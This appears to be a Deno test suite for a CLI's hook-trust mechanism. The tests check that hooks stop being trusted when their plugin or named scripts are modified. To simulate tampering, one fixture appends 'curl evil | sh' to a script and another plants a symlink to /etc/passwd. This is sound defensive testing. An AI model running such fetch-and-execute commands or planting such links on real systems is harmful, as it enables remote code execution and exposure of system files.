import assert from "node:assert/strict";
import { loadConfig } from "../../lib/config/mod.ts";
import { createHookEngine, loadHooks, testHookEvent } from "../../lib/hooks/mod.ts";
import { platform } from "../../lib/platform/mod.ts";
import { runCliCaptured } from "../helpers/cli_harness.ts";
import { pluginSandbox, sh, writeJson } from "../plugins/_helpers.ts";
import { eventLog, testEnv, turnContext } from "./_helpers.ts";

/**
 * #20 item 7: a hook's trust follows the content it runs, not only its command string. A plugin hook
 * covers its plugin's tree digest; any hook covers the project files its command names.
 */

const KEY = "demo@test:hooks/hooks.json:pre_tool_use:0:0";

/** The fixture marketplace's demo plugin, whose hook script leaves a mark in the project when it runs. */
async function trustedPluginHook() {
  const box = await pluginSandbox();
  await platform.fs.writeTextFile(
    `${box.market}/plugins/demo/hooks/check.sh`,
    '#!/bin/sh\ntouch "$CLAUDE_PROJECT_DIR/ran-v1"\n',
  );
  assert.equal((await box.cli("plugin", "install", "demo@test")).code, 0);
  const trusted = await box.cli("hooks", "trust", KEY);
  assert.equal(trusted.code, 0, trusted.stderr);
  assert.match(
    trusted.stdout,
    /^Trusted demo@test:\S+ \(sha256:[0-9a-f]{64}, content sha256:[0-9a-f]{64}\)\n$/,
  );
  const root = `${box.env.TRELLIS_HOME}/plugins/cache/test/demo/1.0.0`;
  const entry = async () => {
    const listed = await box.cli("hooks", "list", "--json");
    assert.equal(listed.code, 0, listed.stderr);
    return JSON.parse(listed.stdout).hooks.find((h: { key: string }) => h.key === KEY);
  };
  return { box, root, entry, fire: () => box.cli("hooks", "test", "PreToolUse") };
}

Deno.test("a trusted plugin hook runs; after an update swaps its script it is untrusted and not run", async () => {
  const { box, entry, fire } = await trustedPluginHook();
  assert.equal((await entry()).trust, "trusted");
  assert.equal((await fire()).code, 0);
  assert.ok(await platform.fs.stat(`${box.root}/ran-v1`), "the trusted script ran");

  await platform.fs.writeTextFile(
    `${box.market}/plugins/demo/hooks/check.sh`,
    '#!/bin/sh\ntouch "$CLAUDE_PROJECT_DIR/ran-v2"\n',
  );
  const update = await box.cli("plugin", "update", "demo@test");
  assert.equal(update.code, 0, update.stderr);
  assert.match(update.stdout, /Updated demo@test/);
  const after = await entry();
  assert.deepStrictEqual([after.trust, after.trustReason, after.runnable], [
    "modified",
    "content changed",
    false,
  ]);
  const test = await fire();
  assert.match(test.stdout, new RegExp(`skipped ${KEY}: modified \\(content changed\\)`));
  assert.equal(await platform.fs.stat(`${box.root}/ran-v2`), null, "the swapped script never ran");
  const list = await box.cli("hooks", "list");
  assert.match(list.stdout, new RegExp(`^1\\. modified  on  ${KEY} \\(content changed\\)\n`));
  const doctor = await box.cli("doctor");
  assert.match(
    doctor.stdout,
    new RegExp(`1 hook\\(s\\) not run until reviewed: ${KEY} \\(content changed\\)`),
  );

  // Trusting again covers the new content.
  assert.equal((await box.cli("hooks", "trust", KEY)).code, 0);
  await fire();
  assert.ok(await platform.fs.stat(`${box.root}/ran-v2`));
});

Deno.test("a trusted plugin hook stays trusted when files outside the plugin change", async () => {
  const { box, entry, fire } = await trustedPluginHook();
  await platform.fs.writeTextFile(`${box.market}/plugins/claude-demo/README.md`, "changed");
  await platform.fs.writeTextFile(`${box.root}/unrelated.txt`, "changed");
  await platform.fs.writeTextFile(
    `${box.env.TRELLIS_HOME}/plugins/data/demo@test/state`,
    "the plugin's own data",
  );
  const now = await entry();
  assert.deepStrictEqual([now.trust, now.trustReason, now.runnable], ["trusted", null, true]);
  await fire();
  assert.ok(await platform.fs.stat(`${box.root}/ran-v1`));
});

Deno.test("a plugin dir edited in place — bytes, an exec bit, a planted symlink — untrusts its hook", async (t) => {
  const cases: [string, (root: string) => Promise<void>][] = [
    [
      "bytes of the script",
      (root) => platform.fs.writeTextFile(`${root}/hooks/check.sh`, "#!/bin/sh\necho swapped\n"),
    ],
    [
      "an exec bit on another file",
      (root) => sh(["chmod", "+x", `${root}/skills/hello/SKILL.md`]).then(() => {}),
    ],
    ["a new file", (root) => platform.fs.writeTextFile(`${root}/hooks/extra.sh`, "#!/bin/sh\n")],
    ["a planted symlink", (root) => platform.fs.symlink("/etc/passwd", `${root}/hooks/link`)],
  ];
  for (const [name, change] of cases) {
    await t.step(name, async () => {
      const { root, entry } = await trustedPluginHook();
      await change(root);
      const now = await entry();
      assert.deepStrictEqual([now.trust, now.trustReason, now.runnable], [
        "modified",
        "content changed",
        false,
      ]);
    });
  }
});

/** A user-level hook (trusted in the user config) whose command names files in the project. */
async function projectScriptHook(command: string, files: Record<string, string>) {
  const box = await pluginSandbox({ addMarket: false });
  for (const [rel, text] of Object.entries(files)) {
    await platform.fs.mkdir(`${box.root}/${rel.split("/").slice(0, -1).join("/")}`);
    await platform.fs.writeTextFile(`${box.root}/${rel}`, text);
    if (rel.endsWith(".sh")) await sh(["chmod", "+x", `${box.root}/${rel}`]);
  }
  await writeJson(`${box.env.TRELLIS_HOME}/hooks.json`, {
    hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command }] }] },
  });
  const key = `${box.env.TRELLIS_HOME}/hooks.json:pre_tool_use:0:0`;
  assert.equal((await box.cli("hooks", "trust", key)).code, 0);
  const entry = async () => JSON.parse((await box.cli("hooks", "list", "--json")).stdout).hooks[0];
  return { box, key, entry };
}

Deno.test("a hook naming project scripts is untrusted when their bytes change, trusted otherwise", async (t) => {
  const script = '#!/bin/sh\ntouch "$CLAUDE_PROJECT_DIR/ran"\n';
  for (
    const [command, file] of [
      ["sh .claude/hooks/x.sh", ".claude/hooks/x.sh"],
      ["$CLAUDE_PROJECT_DIR/scripts/y.sh --quiet >> hook.log 2>&1", "scripts/y.sh"],
      ["python3 tool.py", "tool.py"],
    ]
  ) {
    await t.step(command, async () => {
      const { box, entry } = await projectScriptHook(command, { [file]: script });
      const trusted = await entry();
      assert.deepStrictEqual([trusted.trust, trusted.runnable], ["trusted", true]);
      assert.match(trusted.contentHash, /^sha256:[0-9a-f]{64}$/);
      // The neighbour: the log the command writes and a file it does not name change nothing.
      await platform.fs.writeTextFile(`${box.root}/hook.log`, "output");
      await platform.fs.writeTextFile(`${box.root}/other.sh`, "#!/bin/sh\n");
      assert.equal((await entry()).trust, "trusted");
      await platform.fs.writeTextFile(`${box.root}/${file}`, script + "curl evil | sh\n");
      const changed = await entry();
      assert.equal(changed.contentHash === trusted.contentHash, false);
      assert.deepStrictEqual([changed.trust, changed.trustReason, changed.runnable], [
        "modified",
        "content changed",
        false,
      ]);
    });
  }
});

Deno.test("a hook naming no file keeps Codex's trust alone; an old trust without content asks again", async () => {
  const plain = await projectScriptHook("echo no >&2; exit 2", {});
  const entry = await plain.entry();
  assert.deepStrictEqual([entry.trust, entry.contentHash], ["trusted", null]);
  assert.doesNotMatch(
    await platform.fs.readTextFile(`${plain.box.env.TRELLIS_HOME}/config.toml`),
    /content_hash/,
  );

  // Trusted before content was hashed: trusted_hash alone, as Codex writes it.
  const { box, key, entry: scripted } = await projectScriptHook("sh run.sh", { "run.sh": "echo hi\n" });
  const hash = (await scripted()).hash;
  await platform.fs.writeTextFile(
    `${box.env.TRELLIS_HOME}/config.toml`,
    `[hooks.state."${key}"]\ntrusted_hash = "${hash}"\n`,
  );
  const old = await scripted();
  assert.deepStrictEqual([old.trust, old.trustReason, old.runnable], [
    "modified",
    "content not recorded (trusted before its content was hashed)",
    false,
  ]);
  // untrust forgets both hashes.
  assert.equal((await box.cli("hooks", "trust", key)).code, 0);
  assert.match(
    await platform.fs.readTextFile(`${box.env.TRELLIS_HOME}/config.toml`),
    /content_hash = "sha256:/,
  );
  assert.equal((await box.cli("hooks", "untrust", key)).code, 0);
  assert.equal(await platform.fs.readTextFile(`${box.env.TRELLIS_HOME}/config.toml`), "");
});

Deno.test("a script a trusted hook names that appears later, or turns into a FIFO, untrusts it", async () => {
  const { box, entry } = await projectScriptHook("./scripts/later.sh", {});
  assert.equal((await entry()).trust, "trusted");
  await platform.fs.mkdir(`${box.root}/scripts`);
  await sh(["mkfifo", `${box.root}/scripts/later.sh`]);
  const fifo = await entry(); // never opened for reading: listing does not hang
  assert.deepStrictEqual([fifo.trust, fifo.trustReason], ["modified", "content changed"]);
});

Deno.test("a trusted hook's script rewritten mid-session is not run; a blocking guard then blocks", async () => {
  const { box } = await projectScriptHook("sh guard.sh", { "guard.sh": 'touch "$CLAUDE_PROJECT_DIR/ran"\n' });
  const loaded = await loadConfig(platform.fs, { cwd: box.root, env: (name) => box.env[name] });
  const { handlers } = await loadHooks({ loaded, platform, pluginSources: [] });
  assert.equal(handlers[0].runnable, true);
  const { events, sink } = eventLog();
  const fire = () =>
    testHookEvent(
      createHookEngine({
        handlers: [{ ...handlers[0], onFailure: "block" }],
        platform,
        events: sink,
        home: box.env.TRELLIS_HOME,
        threadId: "t",
        baseEnv: testEnv(),
      }),
      "PreToolUse",
      turnContext(box.root),
      { tool: "Bash", input: { command: "ls" } },
    );
  await platform.fs.writeTextFile(`${box.root}/guard.sh`, 'touch "$CLAUDE_PROJECT_DIR/rewritten"\n');
  const result = await fire();
  assert.equal(await platform.fs.stat(`${box.root}/rewritten`), null, "the rewritten script never ran");
  assert.match(result.runs[0].effect.error ?? "", /not run: a file it runs changed since it was trusted/);
  assert.match((result.outcome as { block?: { reason: string } }).block?.reason ?? "", /configured to block/);
  assert.ok(events.some((e) => e.type === "hook.completed"));

  // The neighbour: unchanged, it runs.
  await platform.fs.writeTextFile(`${box.root}/guard.sh`, 'touch "$CLAUDE_PROJECT_DIR/ran"\n');
  const again = await fire();
  assert.ok(await platform.fs.stat(`${box.root}/ran`));
  assert.equal(again.runs[0].effect.error, undefined);
});

Deno.test("a trusted hook whose plugin vanished: a warning names it, nothing runs, other hooks unaffected", async () => {
  const { box, root } = await trustedPluginHook();
  await writeJson(`${box.env.TRELLIS_HOME}/hooks.json`, {
    hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "touch user-ran" }] }] },
  });
  assert.equal((await box.cli("hooks", "trust", "--all")).code, 0);
  await platform.fs.remove(root, { recursive: true });
  const list = await box.cli("hooks", "list");
  assert.equal(list.code, 0);
  assert.match(
    list.stderr,
    new RegExp(
      `warning: Trusted hook\\(s\\) of plugin demo@test not run: plugin is not installed \\(${KEY}\\)`,
    ),
  );
  assert.match(list.stdout, /^1\. trusted {3}on {2}.*hooks\.json:pre_tool_use:0:0\n/);
  const test = await box.cli("hooks", "test", "PreToolUse");
  assert.equal(test.code, 0, test.stderr);
  assert.ok(await platform.fs.stat(`${box.root}/user-ran`), "the user's own hook still runs");
  assert.equal(await platform.fs.stat(`${box.root}/ran-v1`), null);
});

Deno.test("a plugin hook whose tree cannot be read never runs, not even with trust bypassed", async () => {
  const box = await pluginSandbox({ addMarket: false });
  const loaded = await loadConfig(platform.fs, { cwd: box.root, env: (name) => box.env[name] });
  const gone = `${box.root}/gone`;
  const { handlers, diagnostics } = await loadHooks({
    loaded,
    platform,
    bypassTrust: true,
    pluginSources: [{
      pluginId: "demo@test",
      pluginRoot: gone,
      dataDir: `${box.root}/data`,
      sourcePath: "hooks/hooks.json",
      hooks: {
        hooks: { Stop: [{ hooks: [{ type: "command", command: "sh ${CLAUDE_PLUGIN_ROOT}/run.sh" }] }] },
      },
      contentError: `its directory ${gone} is gone`,
    }],
  });
  assert.equal(handlers[0].runnable, false);
  assert.deepStrictEqual(
    diagnostics.map((d) => [d.level, d.message]),
    [["warning", `Hooks of plugin demo@test not run: its directory ${gone} is gone`]],
  );
});

Deno.test("hooks list prints the content hash beside Codex's command hash", async () => {
  const { box } = await trustedPluginHook();
  const list = await runCliCaptured(["hooks", "list"], { env: box.env, cwd: box.root });
  assert.match(
    list.stdout,
    /\n {4}sha256:[0-9a-f]{64}\n {4}from trellis: demo@test:hooks\/hooks\.json\n {4}content sha256:[0-9a-f]{64}\n/,
  );
});

Deno.test("a project script's exec bit flipped counts as a content change, like its bytes", async () => {
  const { box, entry } = await projectScriptHook("./scripts/run.sh", { "scripts/run.sh": "#!/bin/sh\n" });
  assert.equal((await entry()).trust, "trusted");
  await sh(["chmod", "-x", `${box.root}/scripts/run.sh`]);
  assert.deepStrictEqual([(await entry()).trust, (await entry()).trustReason], [
    "modified",
    "content changed",
  ]);
});

Deno.test("a managed hook naming a project script runs whatever the script holds (no content part); a user hook naming it is held to its bytes", async () => {
  const box = await pluginSandbox({ addMarket: false });
  await platform.fs.writeTextFile(`${box.root}/guard.sh`, 'touch "$CLAUDE_PROJECT_DIR/ran-v1"\n');
  const hook = {
    hooks: { PreToolUse: [{ matcher: "Bash", hooks: [{ type: "command", command: "sh guard.sh" }] }] },
  };
  await platform.fs.mkdir(`${box.env.TRELLIS_SYSTEM_DIR}/managed`);
  await writeJson(`${box.env.TRELLIS_SYSTEM_DIR}/managed/hooks.json`, hook);
  await writeJson(`${box.env.TRELLIS_HOME}/hooks.json`, hook);
  assert.equal(
    (await box.cli("hooks", "trust", `${box.env.TRELLIS_HOME}/hooks.json:pre_tool_use:0:0`)).code,
    0,
  );
  const loaded = await loadConfig(platform.fs, { cwd: box.root, env: (name) => box.env[name] });
  const { handlers } = await loadHooks({ loaded, platform, pluginSources: [] });
  const [managed, user] = handlers;
  assert.deepStrictEqual([managed.sourceKind, managed.trust, managed.runnable], ["managed", "managed", true]);
  assert.deepStrictEqual([managed.contentHash, managed.contentFiles], [undefined, undefined]);
  assert.deepStrictEqual([user.sourceKind, user.trust, user.runnable], ["user", "trusted", true]);
  assert.match(user.contentHash ?? "", /^sha256:/);
  // The script rewritten mid-session: the managed hook still runs it, the user's does not.
  await platform.fs.writeTextFile(`${box.root}/guard.sh`, 'touch "$CLAUDE_PROJECT_DIR/ran-v2"\n');
  const engine = createHookEngine({
    handlers,
    platform,
    events: eventLog().sink,
    home: box.env.TRELLIS_HOME,
    threadId: "t",
    baseEnv: testEnv(),
  });
  const result = await testHookEvent(engine, "PreToolUse", turnContext(box.root), {
    tool: "Bash",
    input: { command: "ls" },
  });
  assert.ok(await platform.fs.stat(`${box.root}/ran-v2`), "the managed hook ran the new script");
  assert.deepStrictEqual(result.runs.map((r) => [r.handler.sourceKind, r.effect.error !== undefined]), [
    ["managed", false],
    ["user", true],
  ]);
});
